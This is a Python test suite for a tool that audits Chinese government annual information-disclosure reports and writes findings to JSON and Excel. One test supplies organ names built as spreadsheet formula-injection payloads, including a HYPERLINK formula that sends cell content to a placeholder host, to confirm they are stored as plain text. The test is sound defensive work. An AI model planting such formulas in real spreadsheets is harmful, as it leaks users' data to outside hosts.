"""xxgk audit: every rule on published reports, positioned in the reports' own terms."""

from __future__ import annotations

import json
from pathlib import Path

from openpyxl import load_workbook
from published_inputs import find_row, report_html
from test_published import sample
from typer.testing import CliRunner

from converter.cli import app
from converter.format import official as fmt
from converter.published.audit import audit_files

DATA = Path(__file__).resolve().parent / "data" / "published"
REAL = [
    DATA / n
    for n in ("hongze-2024.pdf", "pingtan-2022.html", "huaian-2024-report.txt", "oumiao-2024-report.txt")
]
runner = CliRunner()


EVALUATORS = ("C", "Q", "D2", "P")


def rules(result) -> list[tuple[str, str, str]]:
    return sorted((f.severity, f.rule, f.code) for f in result.findings if not f.rule.startswith(EVALUATORS))


def evaluators(result) -> list[tuple[str, str, str]]:
    """The evaluators' findings: (severity, rule, what is missing)."""
    return sorted(
        (f.severity, f.rule, f.message.split("”没有写到“")[1].split("”")[0])
        for f in result.findings
        if f.rule.startswith(EVALUATORS)
    )


def test_real_reports_show_their_known_departures_and_nothing_else():
    hongze, pingtan, huaian, oumiao = audit_files(REAL)
    assert rules(hongze) == [("warning", "导入", "group_one_row"), ("warning", "导入", "label_variant")]
    assert rules(pingtan) == [("warning", "导入", "heading_variant")]
    assert rules(huaian) == [("warning", "R7", "not-stated")]  # (六)2 is 6, no 收费通知 stated in 六
    assert rules(oumiao) == []


def test_real_reports_get_no_error_from_the_evaluators_rules_only_true_warnings():
    hongze, pingtan, huaian, oumiao = audit_files(REAL)
    six = [
        ("warning", "Q3", item)
        for item in ("人大代表建议和政协提案办理结果公开", "政务公开创新", "落实上级年度政务公开工作要点")
    ]
    # people's governments: art. 50's 考核/评议/追究 not in 一 (hongze has 考核: "纳入…高质量发展考核内容")
    assert evaluators(hongze) == [("warning", "Q1", "社会评议"), ("warning", "Q1", "责任追究"), *six]
    assert evaluators(huaian) == [
        ("warning", "Q1", "工作考核"), ("warning", "Q1", "社会评议"), ("warning", "Q1", "责任追究"), *six
    ]  # fmt: skip
    assert evaluators(pingtan) == six  # 六 only states the fees
    # the town's 一 never mentions applications nor information management; its 六 answers the 提案 item
    assert evaluators(oumiao) == [
        ("warning", "Q1", "依申请公开"), ("warning", "Q1", "政府信息管理"), six[1], six[2]
    ]  # fmt: skip
    assert hongze.not_assessable == {"P1": fmt.NEEDS["previous"]}  # D2 by the PDF's creation date: in time
    assert set(huaian.not_assessable) == {"P1", "D2"}  # a text copy: no date at all
    assert set(pingtan.not_assessable) == {"P1", "P2", "D2"}  # the only 2022 report of the batch


def test_table_error_is_placed_at_page_table_row_column(tmp_path):
    text = (DATA / "huaian-2024-report.txt").read_text(encoding="utf-8")
    path = tmp_path / "changed.txt"
    path.write_text(
        text.replace("72   64    178    37    351   13", "72   64    178    37    350   13"), encoding="utf-8"
    )
    [result] = audit_files([path])
    [finding] = result.errors
    assert (finding.rule, finding.field) == ("R3", "review.total")
    assert finding.location == "第5页 表四“行政复议·总计”列"


def test_row_total_error_in_a_page(tmp_path):
    report = sample("oumiao-2024")

    def wrong_total(tables):
        rows = tables["applications"]
        r = find_row(rows, "2.重复申请")
        rows[r][-1] = ("2", 1, 1)  # 总计 2 beside six zeros

    path = tmp_path / "page.html"
    path.write_text(report_html(report, wrong_total), encoding="utf-8")
    [result] = audit_files([path])
    located = {(f.rule, f.location) for f in result.errors}
    assert ("R2", "表三“2.重复申请”行“总计”列") in located


def test_text_figure_against_table_is_r5(tmp_path):
    report = sample("oumiao-2024")
    report.sections["proactive"][0].body = "2024年，我镇现行有效行政规范性文件3件。"
    path = tmp_path / "page.html"
    path.write_text(report_html(report), encoding="utf-8")
    [result] = audit_files([path])
    [finding] = [f for f in result.findings if f.rule == "R5"]
    assert (finding.rule, finding.severity, finding.field) == ("R5", "warning", "sections.proactive.0")
    assert finding.location == "二、主动公开政府信息情况 第1段"
    assert "现行有效行政规范性文件3件" in finding.message


def test_carry_over_between_consecutive_years(tmp_path):
    last, this = sample("huaian-2024"), sample("huaian-2024")
    last.info.year, last.info.title = 2023, "淮安市人民政府2023年政府信息公开工作年度报告"
    (tmp_path / "2023.html").write_text(report_html(last), encoding="utf-8")
    (tmp_path / "2024.html").write_text(report_html(this), encoding="utf-8")
    first, second = audit_files([tmp_path / "2023.html", tmp_path / "2024.html"])
    r4 = [f for f in second.findings if f.rule == "R4"]
    assert r4 and r4[0].location == "表三“二、上年结转政府…”行“自然人”列"  # 34 ≠ last year's 103
    assert not any(f.rule in ("R4", "S1") for f in first.findings)
    assert any(f.rule == "S1" for f in second.findings)  # 66 + 8 − 26 ≠ 66


def test_cli_audit_json_summary_and_exit_codes(tmp_path):
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"\x00binary" * 40)
    out = tmp_path / "汇总.xlsx"
    result = runner.invoke(app, ["audit", *map(str, REAL), str(bad), "--json", "-o", str(out)])
    assert result.exit_code == 3
    payload = json.loads(result.stdout)
    assert [p["ok"] for p in payload] == [True, True, True, True, False]
    assert payload[0]["findings"][0]["location"].startswith("第3页 表三")
    sheet = load_workbook(out)["汇总"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][:5] == ("淮安市洪泽区人民政府", 2024, "hongze-2024.pdf", 0, 7)
    assert rows[1][5:8] == (95, 85, "P1 与上年报告雷同")  # 5 warnings × 1; P1's 10 points not assessable
    assert rows[1][8] == 95  # 本年新收 总计
    assert load_workbook(out)["问题"].max_row == 1 + 7 + 7 + 4 + 4 + 1
    deductions = list(load_workbook(out)["扣分"].iter_rows(values_only=True))
    assert deductions[1][3:6] == ("内容充实", 1, "Q1")
    assert "纳入全区高质量发展考核内容" in deductions[1][8]  # the topics found, quoted
    assert ("hongze-2024.pdf", "P1 与上年报告雷同") in {(row[0], row[3]) for row in deductions}


def test_cli_audit_listing_and_summary_line():
    result = runner.invoke(app, ["audit", *map(str, REAL)])
    assert result.exit_code == 0
    assert "第4页 表三“（六）其他处理”行" in result.output
    assert result.output.rstrip().endswith("共检查 4 个文件：4 个通过，0 个有错误。")


def test_audit_summary_writes_organ_and_file_names_as_text(tmp_path):
    """An organ or file named like a formula (`=`, `+`, `-`, `@`) is a string cell, never a live formula."""
    names = ['=HYPERLINK("http://example.invalid/?"&A3,"点击")', "+1某某局", "-1某某局", "@SUM(A1)"]
    pages = []
    for number, org in enumerate(names):
        report = sample("huaian-2024")
        report.info.org = org
        page = tmp_path / f"{org[0]}{number}.html"
        page.write_text(report_html(report), encoding="utf-8")
        pages.append(page)
    out = tmp_path / "汇总.xlsx"
    result = runner.invoke(app, ["audit", *map(str, pages), "-o", str(out)])
    assert result.exit_code in (0, 1), result.output
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    shown = {c.value for c in cells}
    assert (
        set(names[1:]) <= shown and {p.name for p in pages} <= shown
    )  # the first organ: read from the title
